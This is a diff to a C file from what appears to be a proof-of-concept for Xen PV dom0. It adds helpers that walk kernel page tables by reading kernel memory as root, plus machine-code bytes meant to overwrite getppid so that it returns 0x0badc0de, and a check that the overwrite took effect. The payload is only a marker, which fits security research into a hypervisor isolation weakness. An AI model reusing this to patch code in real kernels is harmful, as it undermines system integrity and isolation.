@@ -1,11 +1,28 @@
 // SPDX-License-Identifier: GPL-2.0-only
 /*
- * A walk through page tables of a PV dom0, without asking Xen: the kernel's
- * memory is there to be read.
+ * Page tables of a PV dom0, read without asking Xen: root can read the kernel's
+ * memory. And code that shows, once it runs, that the kernel's code was changed.
  */
 #include "paging.h"
 
 #include <sched.h>
+#include <sys/syscall.h>
+
+static uint64_t read_word(uint64_t address)
+{
+    uint64_t word = 0;
+
+    return address && read_kernel(address, &word, sizeof(word)) ? word : 0;
+}
+
+uint64_t entry_at(uint64_t table_page, uint64_t address, unsigned int level)
+{
+    const uint64_t base = read_word(kernel_symbol("page_offset_base")),
+                   index = (address >> (12 + 9 * (level - 1))) & 0x1ff;
+
+    return base ? read_word(base + (table_page * 512 + index) * sizeof(index))
+                : 0;
+}
 
 struct pte find_pte(uint64_t root, uint64_t address, unsigned int level)
 {
@@ -31,13 +48,6 @@ struct pte find_pte(uint64_t root, uint64_t address, unsigned int level)
 uint64_t kernel_root(void)
 {
     return kernel_page_number(kernel_symbol("init_top_pgt"));
-}
-
-static uint64_t read_word(uint64_t address)
-{
-    uint64_t word = 0;
-
-    return address && read_kernel(address, &word, sizeof(word)) ? word : 0;
 }
 
 /* The kernel remembers for each CPU which table it runs on: ours. */
@@ -72,6 +82,17 @@ void stay_on_cpu(unsigned int cpu)
     CPU_ZERO(&one);
     CPU_SET(cpu, &one);
     sched_setaffinity(0, sizeof(one), &one);
+}
+
+/* mov $lie, %eax; ret: what getppid() runs once it has been overwritten. */
+static const uint32_t lie = 0x0badc0de;
+const uint8_t lying_code[LYING_CODE_SIZE] = {
+    0xb8, 0xde, 0xc0, 0xad, 0x0b, 0xc3
+};
+
+bool getppid_lies(void)
+{
+    return (uint32_t)syscall(SYS_getppid) == lie;
 }
 
 uint64_t getppid_code(void)
